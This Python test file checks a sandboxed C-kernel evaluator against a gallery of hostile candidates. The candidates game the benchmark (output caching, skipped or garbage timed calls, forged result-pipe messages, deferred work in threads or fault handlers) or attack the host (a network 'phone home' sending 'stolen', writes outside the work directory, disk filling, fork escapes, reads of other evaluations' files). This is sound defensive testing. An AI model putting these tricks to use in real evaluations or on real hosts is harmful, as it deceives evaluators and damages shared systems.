"""The hostile gallery: real C candidates that cheat, crash or attack, each with the status it
must get; correct kernels must stay ``ok`` under the same sandbox.

Where the right status is debatable, the choice is explained next to the kernel:

- Breaking a rule of the contract (writing outside an output, modifying an input, writing
  after returning) is ``invalid``; a result that is merely not the right numbers is
  ``wrong_result``; dying or not reporting is ``runtime_error``; running past the wall-clock
  limit is ``timeout``.
- Attacks the sandbox stops (network, files, processes, signals) are not policed as intent:
  the kernel gets the status its *outputs* earn. A kernel that needs the attack to succeed
  to be correct is therefore non-``ok``; a kernel that attempts it and is correct anyway is
  ``ok`` and the test checks that the attempt had no effect (no connection accepted, no
  file created). Each attack also runs once *outside* the sandbox (a control, loaded with
  ctypes in this process) to prove the test is not vacuous.

The status each kernel must get is in ``HOSTILE`` below.
"""

from __future__ import annotations

import ctypes
import os
import re
import secrets
import socket
import threading
import time
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from kernels import Outcome, evaluate, get_workload, load_template
from kernels.backends.cpu import CpuBackend
from kernels.sandbox.policy import SandboxPolicy
from kernels.space import format_defines

pytestmark = pytest.mark.timeout(120)

PROJECT = Path(__file__).resolve().parents[2]

HEAD = r"""
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
"""

# The correct computation, as a helper every hostile kernel can call.
RMS_ROW = r"""
static void rms_rows(const float *x, const float *w, float *y, int rows, int hidden, float eps)
{
    for (int r = 0; r < rows; ++r) {
        const float *xr = x + (long)r * hidden;
        float *yr = y + (long)r * hidden;
        double s = 0.0;
        for (int i = 0; i < hidden; ++i) s += (double)xr[i] * xr[i];
        float inv = (float)(1.0 / sqrt(s / hidden + eps));
        for (int i = 0; i < hidden; ++i) yr[i] = xr[i] * inv * w[i];
    }
}
"""

SIG = "void rmsnorm(const float *x, const float *w, float *y, int rows, int hidden, float eps)"


def k(body: str, prelude: str = "") -> str:
    """A candidate: headers, the correct helper, ``prelude`` and ``rmsnorm`` with ``body``."""
    return f"{HEAD}{RMS_ROW}{prelude}\n{SIG}\n{{\n{body}\n}}\n"


CORRECT = k("rms_rows(x, w, y, rows, hidden, eps);")

# -- the gallery -----------------------------------------------------------------------------

NEVER_RETURNS = k("for (;;) { __asm__ volatile(\"\"); }")
SEGFAULTS = k("*(volatile int *)16 = 1; rms_rows(x, w, y, rows, hidden, eps);")
ABORTS = k("abort();")
EXITS = k("exit(0);")
DOES_NO_WORK = k("(void)x; (void)w; (void)y;")
WRITES_PAST_OUTPUT = k("rms_rows(x, w, y, rows, hidden, eps); y[(long)rows * hidden + 5] = 0.0f;")
WRITES_BEFORE_OUTPUT = k("rms_rows(x, w, y, rows, hidden, eps); y[-3] = 0.0f;")
MODIFIES_INPUT = k("rms_rows(x, w, y, rows, hidden, eps); ((float *)x)[rows * hidden - 1] *= 0.5f;")
WRITES_PAST_INPUT = k("rms_rows(x, w, y, rows, hidden, eps); ((float *)w)[hidden + 1] = 1.0f;")

# A static buffer filled on the first call and copied out whenever the size matches: caught
# by the second seed of the odd shape (and by every timed output re-validated).
# Returns without working on its fifth call, only in a process that has not seen the odd
# validation shape (hidden 259): the timing child, where that call is an early warm-up or timed
# call whose output no later check reads. Its timings would average in a call that did nothing.
SKIPS_A_TIMED_CALL = k("""
    static int calls, saw_odd;
    if (hidden % 2) saw_odd = 1;
    if (++calls == 5 && !saw_odd) return;
    rms_rows(x, w, y, rows, hidden, eps);""")
# Returns at once with its output's pages made inaccessible; a SIGSEGV handler would do the work
# when the evaluator first touches the output, after the timed call. The sandbox refuses the
# handler (``installed`` stays 0), so the touch kills the child.
DEFERS_TO_A_FAULT_HANDLER = k("""
    gx = x; gw = w; gy = y; grows = rows; ghid = hidden; geps = eps;
    begin = (char *)((uintptr_t)y & ~(uintptr_t)4095);
    length = (((uintptr_t)(y + (long)rows * hidden) + 4095) & ~(uintptr_t)4095) - (uintptr_t)begin;
    mprotect(begin, length, PROT_NONE);""", prelude=r"""
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
static const float *gx, *gw; static float *gy; static int grows, ghid, installed; static float geps;
static char *begin; static size_t length;
static void on_fault(int sig, siginfo_t *si, void *uc) {
    (void)sig; (void)si; (void)uc;
    mprotect(begin, length, PROT_READ | PROT_WRITE);
    rms_rows(gx, gw, gy, grows, ghid, geps);
}
__attribute__((constructor)) static void install(void) {
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = on_fault;
    sa.sa_flags = SA_SIGINFO;
    installed = sigaction(SIGSEGV, &sa, 0) == 0;
}
""")
# Writes zeros (cheap, not NaN) on every timed call but the last. It makes its calls slow enough
# (a 1 ms spin) that the quick timing protocol runs exactly 3 warm-up and 3 timed calls on a timed
# shape's one output buffer, so it knows which call is the last; only the call the timing child
# draws at random can catch it, on about half of the evaluations.
GARBAGE_ON_TIMED_CALLS = k("""
    int n = count(y);
    if (n <= 3) {
        double t0 = now_ms();
        rms_rows(x, w, y, rows, hidden, eps);
        while (now_ms() - t0 < 1.0) ;
        return;
    }
    if (n < 6) { memset(y, 0, sizeof(float) * (size_t)rows * hidden); return; }
    rms_rows(x, w, y, rows, hidden, eps);""", prelude=r"""
#include <time.h>
static double now_ms(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec * 1e3 + t.tv_nsec / 1e6; }
/* calls per output buffer: a validation case has its own (2 calls), a timed shape one for all */
static float *seen[64]; static int calls[64];
static int count(float *y) {
    for (int i = 0; i < 64; ++i) {
        if (seen[i] == y) return ++calls[i];
        if (!seen[i]) { seen[i] = y; return calls[i] = 1; }
    }
    return 1;
}
""")
CACHES_BY_SIZE = k(
    """
    static float *cache = 0; static long cached = -1;
    long n = (long)rows * hidden;
    if (cache && cached == n) { memcpy(y, cache, n * sizeof(float)); return; }
    rms_rows(x, w, y, rows, hidden, eps);
    free(cache); cache = malloc(n * sizeof(float)); memcpy(cache, y, n * sizeof(float)); cached = n;
    """
)

# Subtler: caches per input *pointer*, so every validation case (own buffers) and both
# timing input sets (distinct buffers) look right while timing measures a memcpy. Caught by
# the call on fresh contents written into the timed buffers after timing.
CACHES_BY_POINTER = k(
    """
    static const float *keys[8]; static float *vals[8]; static long sizes[8]; static int used = 0;
    long n = (long)rows * hidden;
    for (int i = 0; i < used; ++i)
        if (keys[i] == x && sizes[i] == n) { memcpy(y, vals[i], n * sizeof(float)); return; }
    rms_rows(x, w, y, rows, hidden, eps);
    int slot = used < 8 ? used++ : 0;
    free(vals[slot]); vals[slot] = malloc(n * sizeof(float));
    memcpy(vals[slot], y, n * sizeof(float)); keys[slot] = x; sizes[slot] = n;
    """
)

# Caches by pointer and by the first and last input element: the fresh-contents call
# changes those, so only the timed calls, whose inputs repeat across the rotation, would hit
# the cache, were it not for the values swapped in a row before every timed call.
CACHES_BY_POINTER_AND_SAMPLES = k(
    """
    static const float *keys[16]; static float k0[16], kl[16]; static float *vals[16]; static long sizes[16];
    static int used = 0;
    long n = (long)rows * hidden;
    for (int i = 0; i < used; ++i)
        if (keys[i] == x && sizes[i] == n && k0[i] == x[0] && kl[i] == x[n - 1]) {
            memcpy(y, vals[i], n * sizeof(float)); return; }
    rms_rows(x, w, y, rows, hidden, eps);
    int slot = used < 16 ? used++ : 0;
    free(vals[slot]); vals[slot] = malloc(n * sizeof(float));
    memcpy(vals[slot], y, n * sizeof(float)); keys[slot] = x; sizes[slot] = n; k0[slot] = x[0]; kl[slot] = x[n - 1];
    """
)

# Drops the tail of every row that is not a multiple of 8 (a missing remainder loop): right
# on the timed shapes (hidden 256), wrong on the odd validation shape (hidden 259).
TILE_MULTIPLES_ONLY = k(
    """
    for (int r = 0; r < rows; ++r) {
        const float *xr = x + (long)r * hidden; float *yr = y + (long)r * hidden;
        int end = hidden / 8 * 8;
        float s = 0.0f;
        for (int i = 0; i < end; ++i) s += xr[i] * xr[i];
        float inv = 1.0f / sqrtf(s / hidden + eps);
        for (int i = 0; i < end; ++i) yr[i] = xr[i] * inv * w[i];
        for (int i = end; i < hidden; ++i) yr[i] = 0.0f;
    }
    """
)

# Accumulates the sum of squares in half precision (11-bit significand, max 65504).
HALF_ACCUMULATOR = k(
    """
    for (int r = 0; r < rows; ++r) {
        const float *xr = x + (long)r * hidden; float *yr = y + (long)r * hidden;
        _Float16 s = 0;
        for (int i = 0; i < hidden; ++i) s += (_Float16)(xr[i] * xr[i]);
        float inv = 1.0f / sqrtf((float)s / hidden + eps);
        for (int i = 0; i < hidden; ++i) yr[i] = xr[i] * inv * w[i];
    }
    """
)

# Scales the squares up by 2**113 "to keep tiny activations out of the denormal range" (an
# fp16 habit carried into fp32): exact for ordinary rows, but the sum overflows to inf on the
# outlier rows (tokens scaled 5-20x, massive-activation channels), whose output becomes 0.
OVERFLOWS_ON_OUTLIERS = k(
    """
    const float up = 0x1p113f, down = 0x1p-113f;
    for (int r = 0; r < rows; ++r) {
        const float *xr = x + (long)r * hidden; float *yr = y + (long)r * hidden;
        float s = 0.0f;
        for (int i = 0; i < hidden; ++i) s += (xr[i] * xr[i]) * up;
        float inv = 1.0f / sqrtf(s * down / hidden + eps);
        for (int i = 0; i < hidden; ++i) yr[i] = xr[i] * inv * w[i];
    }
    """
)

# OpenMP threads add into one shared float without a reduction: lost updates whenever the
# threads overlap. On hidden 4096 they overlap on most calls (evaluated on llama3-8b); on
# tiny rows (hidden 256) they rarely do, and such a kernel would pass there.
RACES = k(
    """
    for (int r = 0; r < rows; ++r) {
        const float *xr = x + (long)r * hidden; float *yr = y + (long)r * hidden;
        volatile float s = 0.0f;  /* volatile: every update is a separate load and store */
        #pragma omp parallel for
        for (int i = 0; i < hidden; ++i) s += xr[i] * xr[i];  /* race: no reduction(+:s) */
        float inv = 1.0f / sqrtf(s / hidden + eps);
        for (int i = 0; i < hidden; ++i) yr[i] = xr[i] * inv * w[i];
    }
    """
)

# Returns at once and lets a detached thread write the output: its timing excludes the work.
# invalid when the write lands after the copy taken right after the return, wrong_result
# (NaN) when the copy is taken before the thread has written anything; never ok.
THREAD_OUTLIVES_CALL = k(
    """
    struct job *j = malloc(sizeof *j);
    *j = (struct job){x, w, y, rows, hidden, eps};
    pthread_t t;
    if (pthread_create(&t, 0, late_work, j) == 0) pthread_detach(t);
    """,
    prelude=r"""
#include <pthread.h>
struct job { const float *x, *w; float *y; int rows, hidden; float eps; };
static void *late_work(void *arg)
{
    struct job *j = arg;
    usleep(200);
    rms_rows(j->x, j->w, j->y, j->rows, j->hidden, j->eps);
    free(j);
    return 0;
}
""",
)

# Writes into the result pipe (fds 3..63) so the parent would read a forged result.
FORGES_THE_RESULT_PIPE = k(
    """
    static const char m[] = "{\\"ok\\": true, \\"timed\\": {}}";
    for (int fd = 3; fd < 64; ++fd) (void)!write(fd, m, sizeof m - 1);
    rms_rows(x, w, y, rows, hidden, eps);
    """
)

NETWORK_PRELUDE = r"""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
static int phone(const char *ip, int port)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return 0;
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET; a.sin_port = htons(port); inet_pton(AF_INET, ip, &a.sin_addr);
    int ok = connect(s, (struct sockaddr *)&a, sizeof a) == 0;
    if (ok) (void)!write(s, "stolen", 6);
    close(s);
    return ok;
}
"""

# Correct, and tries to connect to a listener of this test and to 8.8.8.8:53 on every call.
PHONES_HOME = k(
    "phone(\"127.0.0.1\", PORT); phone(\"8.8.8.8\", 53); rms_rows(x, w, y, rows, hidden, eps);",
    prelude=NETWORK_PRELUDE,
)
# Correct only when the connection succeeds ("fetches its weights from the network").
NEEDS_THE_NETWORK = k(
    "if (phone(\"127.0.0.1\", PORT)) rms_rows(x, w, y, rows, hidden, eps);",
    prelude=NETWORK_PRELUDE,
)

# Keeps its result in files outside its directory and reads it back ("a disk cache"), so it is
# correct only if the writes succeed. TOKEN makes the file names unique per test run.
WRITES_OUTSIDE = k(
    """
    char paths[2][512];
    snprintf(paths[0], sizeof paths[0], "/tmp/pwned-%d", TOKEN);
    snprintf(paths[1], sizeof paths[1], "%s/pwned-%d", PROJECT_DIR, TOKEN);
    long n = (long)rows * hidden;
    float *tmp = malloc(n * sizeof(float));
    rms_rows(x, w, tmp, rows, hidden, eps);
    int ok = 1;
    for (int p = 0; p < 2; ++p) {
        FILE *f = fopen(paths[p], "wb");
        if (!f) { ok = 0; continue; }
        fwrite(tmp, sizeof(float), n, f); fclose(f);
    }
    FILE *f = ok ? fopen(paths[0], "rb") : 0;
    if (f) { if (fread(y, sizeof(float), n, f) != (size_t)n) memset(y, 0, n * sizeof(float)); fclose(f); }
    free(tmp);
    """
)

# Fill the disk from the private directory, the one place the candidate may write: many files,
# each within the file-size limit. Both stop after a bounded amount (256 MiB, 20000 files) and
# then spin: with a broken quota they time out instead of filling the test host's disk.
def _fills(prefix: str, then: str = "", close: str = "fclose(fp);", mode: str = "wb") -> str:
    """Writes 64 files of 4 MiB named ``<prefix>-<n>`` (``then`` runs after each open), then spins."""
    return k(
        f"""
    static char buf[1 << 20];
    memset(buf, 1, sizeof buf);
    char name[64];
    for (int f = 0; f < 64; ++f) {{
        snprintf(name, sizeof name, "{prefix}-%d", f);
        FILE *fp = fopen(name, "{mode}");
        if (!fp) break;
        {then}
        for (int m = 0; m < 4; ++m) fwrite(buf, 1, sizeof buf, fp);
        {close}
    }}
    for (;;) {{ __asm__ volatile(""); }}
    """
    )


FILLS_THE_DISK = _fills("fill")
HIDES_WHAT_IT_WRITES = _fills("hidden", then="unlink(name);", close="fflush(fp);")  # deleted, kept open
# Deleted and closed, but one page stays mapped: the mapping holds the whole file.
MAPS_WHAT_IT_HIDES = _fills("mapped", then="unlink(name);",
                            close="fflush(fp); mmap(0, 4096, PROT_READ, MAP_SHARED, fileno(fp), 0); fclose(fp);",
                            mode="wb+")
MAPS_WHAT_IT_HIDES = MAPS_WHAT_IT_HIDES.replace("#include <unistd.h>", "#include <unistd.h>\n#include <sys/mman.h>", 1)
FLOODS_STDOUT = k(
    """
    static char buf[1 << 20];
    memset(buf, 'x', sizeof buf);
    for (int m = 0; m < 128; ++m) fwrite(buf, 1, sizeof buf, stdout);
    fflush(stdout);
    for (;;) { __asm__ volatile(""); }
    """
)
# Correct only if it can read neither /tmp (other evaluations' build and work directories, with
# their sources and outputs) nor the project's files (its var/ holds the database); a kernel
# that could would print them into the evidence log its author sees.
NEEDS_READS_CONFINED = k(
    """
    DIR *tmp = opendir("/tmp");
    int fd = open(PROJECT_DIR "/README.md", O_RDONLY);
    if (tmp) closedir(tmp);
    if (fd >= 0) close(fd);
    if (!tmp && fd < 0) rms_rows(x, w, y, rows, hidden, eps);
    """,
    prelude="#include <dirent.h>\n#include <fcntl.h>\n",
)
# Correct only if fallocate is refused, on a file of its directory and on its stdout (a log file
# in the evaluator's directory, opened before any confinement): a reservation of 1 GiB in one
# call, four times the file-size limit and faster than any poll, would otherwise succeed.
NEEDS_FALLOCATE_DENIED = k(
    """
    int fd = open("reserve", O_CREAT | O_WRONLY, 0600);
    int refused = fd >= 0 && syscall(SYS_fallocate, fd, FALLOC_FL_KEEP_SIZE, 0L, 1L << 30) != 0
                  && errno == EOPNOTSUPP && syscall(SYS_fallocate, 1, FALLOC_FL_KEEP_SIZE, 0L, 1L << 30) != 0;
    if (fd >= 0) close(fd);
    if (refused) rms_rows(x, w, y, rows, hidden, eps);
    """,
    prelude="#include <errno.h>\n#include <fcntl.h>\n#include <linux/falloc.h>\n#include <sys/syscall.h>\n",
)
# Writes 24 MiB at the bottom of 17 nested directories with 250-character names: a path past
# PATH_MAX (4096), where a walk by path cannot stat anything.
WRITES_BELOW_PATH_MAX = k(
    """
    static char buf[1 << 20];
    memset(buf, 1, sizeof buf);
    char name[251];
    memset(name, 'n', 250); name[250] = 0;
    int dir = open(".", O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < 17 && dir >= 0; ++i) {
        mkdirat(dir, name, 0700);
        int sub = openat(dir, name, O_RDONLY | O_DIRECTORY);
        close(dir);
        dir = sub;
    }
    for (int f = 0; dir >= 0 && f < 24; ++f) {
        char file[32];
        snprintf(file, sizeof file, "blob-%d", f);
        int fd = openat(dir, file, O_CREAT | O_WRONLY, 0600);
        if (fd < 0) break;
        (void)!write(fd, buf, sizeof buf);
        close(fd);
    }
    for (;;) { __asm__ volatile(""); }
    """,
    prelude="#include <fcntl.h>\n#include <sys/stat.h>\n",
)
MAKES_FILES_WITHOUT_END = k(
    """
    char name[64];
    for (int f = 0; f < 20000; ++f) {
        snprintf(name, sizeof name, "empty-%d", f);
        FILE *fp = fopen(name, "wb");
        if (!fp) break;
        fclose(fp);
    }
    for (;;) { __asm__ volatile(""); }
    """
)

# Correct only if fork() fails (the child would escape the process group with setsid()).
NEEDS_FORK_DENIED = k(
    """
    pid_t p = fork();
    if (p == 0) { setsid(); sleep(1000); _exit(0); }
    if (p < 0) rms_rows(x, w, y, rows, hidden, eps);
    """,
    prelude="#include <sys/types.h>\n",
)

# Correct only if it cannot signal its parent (the worker): signal 0 only checks permission.
NEEDS_SIGNAL_DENIED = k(
    "if (kill(getppid(), 0) != 0) rms_rows(x, w, y, rows, hidden, eps);",
    prelude="#include <signal.h>\n",
)

# OpenMP must keep working for the unprivileged sandbox user: correct only if a parallel
# region really runs on every CPU.
NEEDS_OPENMP_THREADS = k(
    """
    int n = 0;
    #pragma omp parallel
    {
        #pragma omp atomic
        n++;
    }
    if (n == NPROC) rms_rows(x, w, y, rows, hidden, eps);
    """,
    prelude="#include <omp.h>\n",
)

# (name, source, params, shape set, expected statuses)
HOSTILE = [
    ("never returns", NEVER_RETURNS, {}, "test-small", {Outcome.timeout}),
    ("segfaults", SEGFAULTS, {}, "test-small", {Outcome.runtime_error}),
    ("aborts", ABORTS, {}, "test-small", {Outcome.runtime_error}),
    ("exits the process", EXITS, {}, "test-small", {Outcome.runtime_error}),
    ("forges the result pipe", FORGES_THE_RESULT_PIPE, {}, "test-small", {Outcome.runtime_error}),
    ("does no work", DOES_NO_WORK, {}, "test-small", {Outcome.wrong_result}),
    ("skips the work on one timed call", SKIPS_A_TIMED_CALL, {}, "test-small", {Outcome.wrong_result}),
    ("defers its work to a page-fault handler", DEFERS_TO_A_FAULT_HANDLER, {}, "test-small", {Outcome.runtime_error}),
    ("writes garbage on timed calls but the last", GARBAGE_ON_TIMED_CALLS, {}, "test-small", {Outcome.wrong_result}),
    ("writes past its output", WRITES_PAST_OUTPUT, {}, "test-small", {Outcome.invalid}),
    ("writes before its output", WRITES_BEFORE_OUTPUT, {}, "test-small", {Outcome.invalid}),
    ("modifies its input", MODIFIES_INPUT, {}, "test-small", {Outcome.invalid}),
    ("writes past an input", WRITES_PAST_INPUT, {}, "test-small", {Outcome.invalid}),
    ("caches its output by size", CACHES_BY_SIZE, {}, "test-small", {Outcome.wrong_result}),
    ("caches its output by pointer", CACHES_BY_POINTER, {}, "test-small", {Outcome.wrong_result}),
    ("caches its output by pointer and input samples", CACHES_BY_POINTER_AND_SAMPLES, {}, "test-small",
     {Outcome.wrong_result}),
    ("only correct for tile multiples", TILE_MULTIPLES_ONLY, {}, "test-small", {Outcome.wrong_result}),
    ("accumulates in half precision", HALF_ACCUMULATOR, {}, "test-small", {Outcome.wrong_result}),
    ("overflows on outlier rows", OVERFLOWS_ON_OUTLIERS, {}, "test-small", {Outcome.wrong_result}),
    ("races (no OpenMP reduction)", RACES, {}, "llama3-8b", {Outcome.wrong_result}),
    ("works in a thread that outlives the call", THREAD_OUTLIVES_CALL, {}, "test-small",
     {Outcome.invalid, Outcome.wrong_result}),
]

CORRECT_KERNELS = [
    ("plain C", CORRECT, {}),
    ("template, float accumulator", load_template("rmsnorm"), {"ROWS_PER_CHUNK": 2, "UNROLL": 4, "VEC": 8, "ACC_DOUBLE": 0}),
    ("template, double accumulator", load_template("rmsnorm"), {"ROWS_PER_CHUNK": 1, "UNROLL": 1, "VEC": 16, "ACC_DOUBLE": 1}),
    ("OpenMP on every CPU", NEEDS_OPENMP_THREADS, {"NPROC": os.cpu_count() or 1}),
]

RESULTS: dict[str, str] = {}


def run(source, quick_bench, params=None, shape_set="test-small", **kw):
    kw.setdefault("timeout_s", 30)
    return evaluate("rmsnorm", source, params or {}, shape_set=shape_set, bench=quick_bench, seed=3, **kw)


# A data race shows only when the threads really overlap; on a loaded 2-core host the OS may run
# them one after the other, which makes the racy sum correct by luck; a kernel that cheats on
# some calls is caught when the call drawn at random is one of them. Such kernels get a few
# fresh evaluations: each must be caught in at least one (every other kernel gets exactly one).
ATTEMPTS = {"races (no OpenMP reduction)": 3,
            # caught when the drawn call is one of its 2 garbage calls of 6, on either shape
            # (p = 1 - (4/6)^2 = 0.56 per evaluation): 12 tries miss with p < 1e-4
            "writes garbage on timed calls but the last": 12}


@pytest.mark.parametrize("name, source, params, shape_set, expected", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_each_hostile_kernel_gets_its_status(name, source, params, shape_set, expected, quick_bench):
    timeout = 3 if Outcome.timeout in expected else 30
    for _ in range(ATTEMPTS.get(name, 1)):
        ev = run(source, quick_bench, params, shape_set, timeout_s=timeout)
        if ev.status in expected:
            break
    RESULTS[name] = str(ev.status)
    assert ev.status in expected, f"{name}: {ev.status}\n{ev.log[-3000:]}"


@pytest.mark.parametrize("name, source, params", CORRECT_KERNELS, ids=[c[0] for c in CORRECT_KERNELS])
def test_correct_kernels_stay_ok_in_the_sandbox(name, source, params, quick_bench):
    ev = run(source, quick_bench, params)
    RESULTS[f"(correct) {name}"] = str(ev.status)
    assert ev.status == Outcome.ok, ev.log[-3000:]
    assert all(c["passed"] for c in ev.cases)
    assert {c["kind"] for c in ev.cases} == {"validation", "timed", "fresh", "picked"}


def test_the_reasons_name_what_was_caught(quick_bench):
    assert "fresh contents" in run(CACHES_BY_POINTER, quick_bench).log
    assert "rows=7,hidden=259" in run(TILE_MULTIPLES_ONLY, quick_bench).log
    assert "wrote before the start of output 'y'" in run(WRITES_BEFORE_OUTPUT, quick_bench).log
    assert "wrote outside input 'w'" in run(WRITES_PAST_INPUT, quick_bench).log
    assert "SIGSEGV" in run(SEGFAULTS, quick_bench).log
    assert "y[0], n=256, inside output 'y' of validation case v0" in \
        run(DEFERS_TO_A_FAULT_HANDLER, quick_bench).log  # the page it made inaccessible
    assert "1 of" in (log := run(SKIPS_A_TIMED_CALL, quick_bench).log) and "left output elements NaN" in log


# -- attacks the sandbox must stop -------------------------------------------------------------


def _call_directly(source: str, params: dict, shape=None) -> np.ndarray:
    """Control: compile ``source`` and call it in this process, outside any sandbox."""
    wl = get_workload("rmsnorm")
    shape = shape or {"rows": 2, "hidden": 16}
    inp = wl.generate(shape, 0)
    y = np.full((shape["rows"], shape["hidden"]), np.nan, np.float32)
    lib = ctypes.CDLL(str(CpuBackend().compile(source, format_defines(params)).path))
    lib.rmsnorm.argtypes = [ctypes.c_void_p] * 3 + [ctypes.c_int, ctypes.c_int, ctypes.c_float]
    lib.rmsnorm(inp["x"].ctypes.data, inp["w"].ctypes.data, y.ctypes.data, shape["rows"], shape["hidden"], 1e-5)
    _, rel = wl.errors(y, wl.reference(inp, wl.attrs)["y"])
    return rel <= wl.tolerance


class _Listener:
    """A TCP listener on 127.0.0.1 that counts accepted connections."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._stop = False
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()

    def _loop(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.sock.close()


def _accepted(listener: _Listener, at_least: int, timeout_s: float) -> int:
    """Accepted connections once ``at_least`` arrived or ``timeout_s`` passed: the listener
    thread accepts after the kernel's connect() has already returned."""
    deadline = time.monotonic() + timeout_s
    while listener.accepted < at_least and time.monotonic() < deadline:
        time.sleep(0.01)
    return listener.accepted


@pytest.fixture
def listener():
    lst = _Listener()
    yield lst
    lst.close()


def test_a_kernel_that_phones_home_cannot_connect(listener, quick_bench):
    assert _call_directly(PHONES_HOME, {"PORT": listener.port})  # control: connects
    assert _accepted(listener, 1, timeout_s=10.0) >= 1
    before = listener.accepted
    ev = run(PHONES_HOME, quick_bench, {"PORT": listener.port})
    RESULTS["phones home (correct otherwise)"] = str(ev.status)
    assert ev.status == Outcome.ok, ev.log[-3000:]  # correct output; the attempts failed
    assert _accepted(listener, before + 1, timeout_s=1.0) == before
    assert ev.fingerprint["sandbox"]["network"] in ("namespace", "user-namespace")
    assert "socket" in ev.fingerprint["sandbox"]["seccomp"]


def test_a_kernel_that_needs_the_network_is_not_ok(listener, quick_bench):
    assert _call_directly(NEEDS_THE_NETWORK, {"PORT": listener.port})  # control: correct
    ev = run(NEEDS_THE_NETWORK, quick_bench, {"PORT": listener.port})
    RESULTS["needs the network"] = str(ev.status)
    assert ev.status == Outcome.wrong_result, ev.log[-3000:]


def test_a_kernel_cannot_write_outside_its_directory(quick_bench):
    token = secrets.randbelow(10**9)
    files = [Path(f"/tmp/pwned-{token}"), PROJECT / f"pwned-{token}"]
    source = f'#define PROJECT_DIR "{PROJECT}"\n' + WRITES_OUTSIDE
    try:
        assert _call_directly(source, {"TOKEN": token})  # control: the writes work outside
        assert all(f.exists() for f in files)
        for f in files:
            f.unlink()
        ev = run(source, quick_bench, {"TOKEN": token})
        RESULTS["writes outside its directory"] = str(ev.status)
        assert ev.status == Outcome.wrong_result, ev.log[-3000:]
        assert not any(f.exists() for f in files)
        assert ev.fingerprint["sandbox"]["filesystem"] in ("landlock", "mount-namespace")
    finally:
        for f in files:
            f.unlink(missing_ok=True)


@pytest.mark.parametrize("name, source, limit, reason", [
    ("fills the disk", FILLS_THE_DISK, {"disk_bytes": 16 * 2**20},
     "wrote more than 16 MiB besides the evaluator's own files (up to "),
    ("makes files without end", MAKES_FILES_WITHOUT_END, {"disk_entries": 100},
     "created more than 100 files and directories"),
    ("writes below a path longer than PATH_MAX", WRITES_BELOW_PATH_MAX, {"disk_bytes": 16 * 2**20},
     "wrote more than 16 MiB besides the evaluator's own files (up to "),
], ids=["bytes", "files", "long-path"])
def test_a_kernel_that_fills_its_directory_is_killed(name, source, limit, reason, quick_bench):
    policy = replace(SandboxPolicy.from_env(), **limit)
    start = time.monotonic()
    ev = run(source, quick_bench, timeout_s=20, sandbox=policy)
    RESULTS[name] = str(ev.status)
    assert ev.status == Outcome.runtime_error, ev.log[-3000:]
    assert reason in ev.log
    assert time.monotonic() - start < 10  # killed by the quota, not by the wall-clock limit


@pytest.mark.parametrize("name, source, counted", [
    ("hides what it writes (deleted, kept open)", HIDES_WHAT_IT_WRITES, r"(\d+) in files it deleted but holds"),
    ("hides what it writes (deleted, kept mapped)", MAPS_WHAT_IT_HIDES, r"(\d+) in files it deleted but holds"),
    ("writes to its stdout", FLOODS_STDOUT, r"(\d+) to stdout/stderr"),
], ids=["open", "mapped", "stdout"])
def test_what_a_kernel_writes_outside_its_directory_counts(name, source, counted, quick_bench):
    """Deleted files it still holds are in no directory; stdout and stderr go to the evaluator's
    log files. Both take disk, and both count against the same quota."""
    if os.geteuid() != 0 and source is not FLOODS_STDOUT:
        pytest.skip("the files a child holds are visible to root only (it is not dumpable)")
    policy = replace(SandboxPolicy.from_env(), disk_bytes=16 * 2**20)
    start = time.monotonic()
    ev = run(source, quick_bench, timeout_s=20, sandbox=policy)
    RESULTS[name] = str(ev.status)
    assert ev.status == Outcome.runtime_error, ev.log[-3000:]
    assert int(re.search(counted, ev.log).group(1)) >= 16  # where the bytes were found
    assert time.monotonic() - start < 10


def test_a_kernel_cannot_read_other_evaluations_or_the_project(quick_bench):
    source = f'#define PROJECT_DIR "{PROJECT}"\n' + NEEDS_READS_CONFINED
    assert not _call_directly(source, {})  # control: outside the sandbox both reads work
    ev = run(source, quick_bench)
    RESULTS["reads /tmp and the project (correct iff denied)"] = str(ev.status)
    assert ev.status == Outcome.ok, ev.log[-3000:]
    assert "/tmp" not in ev.fingerprint["sandbox"]["readable"]


def test_fallocate_is_refused(quick_bench):
    ev = run(NEEDS_FALLOCATE_DENIED, quick_bench)
    RESULTS["reserves disk with fallocate (correct iff refused)"] = str(ev.status)
    assert ev.status == Outcome.ok, ev.log[-3000:]
    assert "fallocate" in ev.fingerprint["sandbox"]["seccomp"]


def test_a_kernel_cannot_start_processes_or_signal_the_worker(quick_bench):
    ev = run(NEEDS_FORK_DENIED, quick_bench)
    RESULTS["forks an escaping process (correct iff fork fails)"] = str(ev.status)
    assert ev.status == Outcome.ok, ev.log[-3000:]
    ev = run(NEEDS_SIGNAL_DENIED, quick_bench)
    RESULTS["signals the worker (correct iff denied)"] = str(ev.status)
    assert ev.status == Outcome.ok, ev.log[-3000:]


@pytest.mark.skipif(os.geteuid() != 0, reason="the privilege drop happens only when the worker runs as root")
def test_as_root_the_candidate_runs_as_an_unprivileged_user(quick_bench):
    src = k("if (getuid() != 0 && geteuid() != 0 && access(\"/root\", R_OK) != 0) rms_rows(x, w, y, rows, hidden, eps);")
    ev = run(src, quick_bench)
    assert ev.status == Outcome.ok, ev.log[-3000:]
    sb = ev.fingerprint["sandbox"]
    assert sb["user"]["dropped"] and sb["user"]["uid"] != 0 and sb["no_new_privs"]


def test_the_gallery_covers_every_run_time_failure_with_distinct_kernels():
    """Each status a compiled kernel can earn at run time besides ``ok`` is the required status of
    at least one gallery kernel, and no two gallery kernels share a name or a source (a copy would
    count one attack twice)."""
    required = set().union(*(h[4] for h in HOSTILE))
